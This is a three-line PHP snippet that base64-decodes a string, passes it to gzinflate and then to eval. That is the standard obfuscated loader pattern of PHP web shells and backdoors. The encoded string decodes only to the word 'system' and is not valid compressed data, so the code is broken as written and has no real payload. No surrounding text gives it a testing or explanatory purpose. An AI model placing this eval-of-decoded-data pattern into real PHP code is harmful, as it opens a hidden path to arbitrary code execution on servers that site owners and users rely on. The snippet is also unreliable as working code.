<?php
$p = 'c3lzdGVt';
eval(gzinflate(base64_decode($p)));
